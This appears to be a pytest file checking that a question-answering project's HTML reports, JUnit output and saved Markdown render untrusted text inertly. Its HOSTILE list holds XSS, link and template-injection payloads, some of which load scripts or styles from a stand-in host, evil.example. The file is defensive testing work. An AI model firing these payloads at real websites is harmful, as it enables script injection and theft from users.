"""Saved Markdown and the evaluation's page: nothing in them that was said loads or runs."""

from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qa.data import (
    Answer,
    Citation,
    Dated,
    Document,
    Hit,
    LeftOut,
    Note,
    Passage,
    Sentence,
    Statement,
)
from qa.evaluate import html, junit
from qa.evaluate.gold import Evidence, GoldPair
from qa.evaluate.report import build
from qa.evaluate.run import GoldSet, evaluate
from qa.fronts.chat.markdown import to_markdown

TEXT = "Plain words."
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script src=//evil.example/x.js></script>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '" onmouseover="alert(1)" style="background:url(//evil.example/x)',
    "' autofocus onfocus='alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example/>",
    "<svg><use href='data:image/svg+xml,x'/></svg><link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x';</style>",
    "{{ 7 * 7 }}{% include 'x' %}{{ ''.__class__ }}",
    "![x](//evil.example/x.png)",
    "[x](javascript:alert(1))",
    "[x]: //evil.example/x\n\n[x]",
    "<javascript:alert(1)> <https://evil.example/>",
    "\\<img src=x>\\\\[x](javascript:alert(1))",
    "&lt;img src=x&gt; &#60;script&#62;",
    "`x` ``` <b>\n```html\n<script>\n```",
    "[^1]: <img src=x>\n\n- a\n\n| a |\n|---|\n| <img> |",
    "a\n<script>alert(1)</script>\n===\n# x",
    "<!-- x --> <![CDATA[ x ]]> <?x ?>",
    "\u202e<img\u2028src=x>\x1b]8;;https://evil.example\x07",
]
SHOWN = {"h1", "h2", "p", "em", "strong"}


def said(text: str) -> Answer:
    """An answer of which every part that comes from outside is ``text``."""
    day = date(2020, 1, 1)
    dates = (Dated(text, day, day, text, True),)
    place = Citation(1, "d", text, text, day, 1, 1, 0, len(text), text, dates=dates)
    hit = Hit(Passage("p", "d", 0, 1, (Sentence(0, 1),), text), Document("d", text), (text,), 1, 1)
    statement = Statement(text, (place,), 1.0, (0, max(1, len(text) // 2)))
    gone = (LeftOut(text, text, "dropped"),)
    note = Note.of("taken_for", typed=text, taken=text)
    return Answer(
        text, f"{text}?", (statement,), None, (), (hit,), text, notes=(note,), left_out=gone
    )


def refused(text: str) -> Answer:
    """A refusal of which every part that comes from outside is ``text``."""
    told = said(text)
    return replace(
        told, outcome="not_found", statements=(), reason=text, nearest=told.statements[0].citations
    )


class Told:
    """Gives the answer it was made with."""

    def __init__(self, answer: Answer) -> None:
        self.answer = answer

    def ask(self, *_: object, **__: object) -> Answer:
        """The answer."""
        return self.answer


def page(answer: Answer, text: str) -> tuple[str, str]:
    """The HTML and the JUnit report of a run that got ``answer``, all of its gold ``text``."""
    pair = GoldPair(
        "g", text, text, True, ((text,),), (text,), (Evidence(text, text),), history=(text,),
        note=text,
    )  # fmt: skip
    gold = GoldSet(text, Path("g"), Path(), (pair,), 0, "0")
    report = build([gold], list(evaluate(gold, Told(answer), {text: answer.hits[0].document})))
    return html.render(report), junit.render(report)


class Tags(HTMLParser):
    """The tags of a page with their attributes, in order."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note it."""
        self.found.append((tag, tuple(name for name, _ in attrs)))


def tags(text: str) -> set[tuple[str, tuple[str, ...]]]:
    """Which tags a page has, with which attributes."""
    parser = Tags()
    parser.feed(text)
    return set(parser.found)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", [said, refused])
def test_a_page_about_hostile_text_has_the_tags_of_any_other(text: str, kind: type) -> None:
    """Whatever documents, questions and answers hold, the report has no tag or attribute more."""
    shown, xml = page(kind(text), text)
    plain, _ = page(kind(TEXT), TEXT)
    assert tags(shown) <= tags(plain) | {("mark", ())}
    names = {name for _, attributes in tags(shown) for name in attributes}
    assert not {name for name in names if name.startswith("on")}
    assert not names & {"src", "href", "srcset", "style", "action", "data", "xlink:href"}
    head, _, body = shown.partition("</style>")
    assert head.index("Content-Security-Policy") < head.index("<title>")
    assert "default-src 'none'" in head
    assert "<style" not in body
    assert "<!--" not in shown
    assert "49" not in shown.partition("<h2>Questions</h2>")[2] or "7 * 7" not in text
    assert "<script" not in xml
    assert "<img" not in xml


def rendered(markdown: str) -> set[str]:
    """What a renderer that lets raw HTML through makes of it: the names of tags, "html" for raw."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    found = set()
    for block in parser.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type in ("html_block", "html_inline"):
                found.add("html")
            elif token.tag:
                found.add(token.tag)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_saved_markdown_has_no_tag_link_or_image_of_its_text(text: str) -> None:
    """A saved conversation shows what was said as words, in whatever opens it."""
    assert rendered(to_markdown([said(text), refused(text)])) <= SHOWN


@given(st.text(alphabet="<>[]()!`*_#|~&\\\"'=-+:;/. \n\tab1{}$^", max_size=40).filter(str.strip))
def test_no_text_becomes_a_mark(text: str) -> None:
    """Of any row of marks nothing becomes a link, an image, a tag, code, a list or a table."""
    assert rendered(to_markdown([said(text), refused(text)])) <= SHOWN
